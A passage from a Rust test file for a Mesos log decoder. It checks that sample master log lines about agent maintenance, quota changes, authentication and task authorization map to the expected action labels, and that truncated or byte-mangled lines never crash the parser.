        ("W1120 06:00:00.000000 1 master.cpp:1] Refusing registration of agent at slave(1)@10.0.0.7:5051 because the machine 'h7' that it is running on is `DOWN`".to_owned(), "agent-registration-refused"),
        (format!("I1120 06:00:00.000000 1 master.cpp:1] Removing unavailability of agent {A}-S1 at slave(1)@10.0.0.7:5051 (h7)"), "agent-maintenance"),
        (format!("I1120 06:00:00.000000 1 master.cpp:1] Rescinding offer {A}-O5 with resources cpus:1 on agent {A}-S1 at slave(1)@10.0.0.7:5051 (h7)"), "offer-rescinded"),
        (format!("I1120 06:00:00.000000 1 master.cpp:8212] Sending status update TASK_ERROR (Status UUID: u) for task t1 of framework {A}-0001 'Task 't1' is not authorized tolaunch'"), "authorization-denied"),
        (format!("I1120 06:00:00.000000 1 master.cpp:1] Transitioning agent {A}-S1 to the DRAINING state; timeout 1mins"), "agent-maintenance"),
        (format!("I1120 06:00:00.000000 1 hierarchical.cpp:1] Unsuppressed offers and cleared filters for roles {{ r }} of framework {A}-0001"), "allocator-framework-changed"),
        ("I1120 06:00:00.000000 1 quota_handler.cpp:1] Using force flag to override quota overcommit check".to_owned(), "quota-updated"),
        ("W1120 06:00:00.000000 1 hierarchical.cpp:1] Whitelist is empty, no offers will be made!".to_owned(), "configuration"),
        ("W1120 06:00:00.000000 1 credentials.hpp:1] Permissions on credentials file '/etc/mesos/c' are too open; it is recommended that your credentials file is NOT accessible by others".to_owned(), "configuration"),
        ("W1120 06:00:00.000000 1 authenticator.cpp:513] No credentials provided, authentication requests will be refused".to_owned(), "configuration"),
        ("W1120 06:00:00.000000 1 master.cpp:1] Only non-authenticating frameworks and agents are allowed to connect. Authentication is disabled: Failed".to_owned(), "configuration"),
        (format!("E1120 06:00:00.000000 1 master.cpp:3106] Dropping SUBSCRIBE call for framework 'chronos': {A}-0001 (chronos) already connected at scheduler-b@10.0.0.6:2"), "framework-subscription-refused"),
        ("I1120 06:00:00.000000 1 master.cpp:1] Updating 'ml' quota limit to 'cpus:1'; this is below its current quota consumption 'cpus:2'; Ignored violation since the force flag is provided.".to_owned(), "quota-updated"),
        (format!("I1120 06:00:00.000000 1 master.cpp:1] Telling agent {A}-S1 at slave(1)@10.0.0.7:5051 (h7) to kill task t1 of framework {A}-0001 (f)"), "task-kill-sent"),
        ("I1120 06:00:00.000000 1 group.cpp:395] Authenticating with ZooKeeper using digest".to_owned(), "authentication-started"),
        ("W1120 06:00:00.000000 1 group.cpp:495] Timed out waiting to connect to ZooKeeper. Forcing ZooKeeper session (sessionId=17f0bf50a61b8500) expiration".to_owned(), "zookeeper-session-expired"),
    ];
    for (line, want) in &cases {
        let e = one(MASTER, line);
        assert_eq!(action(&e), *want, "{line}");
    }
    // The connection that stays is not the caller.
    let e = one(MASTER, &cases[22].0);
    assert_eq!(s(&e, "source.ip"), None);
    assert_eq!(
        e.labels.get("connected_upid").map(String::as_str),
        Some("scheduler-b@10.0.0.6:2")
    );
}

/// Every prefix of one line of each kind (a record cut anywhere), and the
/// same lines with a byte replaced at every position: no panic, one event.
#[test]
fn truncated_and_mangled_lines() {
    let mut samples: Vec<String> = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    let mut stack: Vec<std::path::PathBuf> =
        common::shared_corpus("mesos/dev").into_iter().collect();
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if let Ok(text) = std::fs::read_to_string(&p) {
                for l in text.lines() {
                    // One line per (file:line) origin or first word.
                    let key = l
                        .split(']')
                        .next()
                        .and_then(|h| h.rsplit(' ').next())
                        .unwrap_or(l)
                        .to_owned();
                    if seen.insert(key) {
                        samples.push(l.to_owned());
                    }
                }
            }
        }
    }
    samples.push("I1120 09:19:21.864794  9869 master.cpp:8212] Sending status update TASK_ERROR (Status UUID: be0d9a26) for task t of framework F-0001 'Principal 'a' no authorized to launch task t of framework F-0001 under user 'root''".into());
    samples.push("Nov 20 06:00:00 mesos-m1 mesos-master[13567]: I1120 06:00:00.757433 13567 master.cpp:9807] Authentication of s@1.2.3.4:5 was unsuccessful: x".into());
    for path in [
        MASTER,
        "/var/lib/mesos/slaves/A-S1/frameworks/F-0000/executors/e/runs/c/stderr",
    ] {
        for l in &samples {
            for (i, _) in l.char_indices() {
                let evs = decode(path, &[&l[..i]]);
                assert_eq!(evs.len(), 1, "{}", &l[..i]);
            }
            let bytes = l.as_bytes();
            for i in (0..bytes.len()).step_by(5) {
                for b in [b' ', b'\'', b']', b'@'] {
                    let mut m = bytes.to_vec();
                    m[i] = b;
                    let m = String::from_utf8_lossy(&m).into_owned();
                    assert_eq!(decode(path, &[&m]).len(), 1);
                }
            }
        }
    }
}
